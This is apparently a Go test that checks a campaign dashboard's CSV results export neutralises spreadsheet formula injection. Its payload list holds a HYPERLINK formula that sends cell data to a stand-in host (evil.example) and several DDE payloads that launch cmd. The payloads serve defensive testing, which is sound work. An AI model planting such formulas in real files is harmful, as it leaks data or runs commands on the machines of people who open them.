package dashboard_test

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/voxdial/voxdial/store"
	"github.com/voxdial/voxdial/store/storetest"
)

// TestResultsCSVFormulas: an imported cell a spreadsheet would run comes out
// of the results export as text.
func TestResultsCSVFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t, storetest.OpenSQLite(t))
	r := b.do(store.RoleMarketing, "POST", "/api/campaigns", map[string]any{"name": "formulas", "script": "asset:hello.yaml"})
	var c struct {
		ID int64 `json:"id"`
	}
	r.json(t, &c)
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1;"x")`, `+cmd|' /C calc'!A0`, `-1+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}
	var file strings.Builder
	file.WriteString("phone,external_id\n")
	for i, p := range payloads {
		fmt.Fprintf(&file, "+1415555%04d,\"%s\"\n", i, strings.ReplaceAll(p, `"`, `""`))
	}
	if r := b.do(store.RoleMarketing, "POST", fmt.Sprintf("/api/campaigns/%d/contacts?file=f.csv", c.ID), file.String()); r.Code != 200 {
		t.Fatalf("upload: %d %s", r.Code, r.Body)
	}
	r = b.do(store.RoleMarketing, "GET", fmt.Sprintf("/api/campaigns/%d/results?format=csv", c.ID), nil)
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	if err != nil || len(rows) != len(payloads)+1 {
		t.Fatalf("export: %v %q", err, r.Body)
	}
	got := map[string]bool{}
	for _, row := range rows[1:] {
		if !strings.HasPrefix(row[0], "+1415555") {
			t.Errorf("phone %q changed", row[0])
		}
		got[row[1]] = true
	}
	for _, p := range payloads {
		if !got["'"+p] {
			t.Errorf("external_id %q not neutralised: %v", p, got)
		}
	}
}
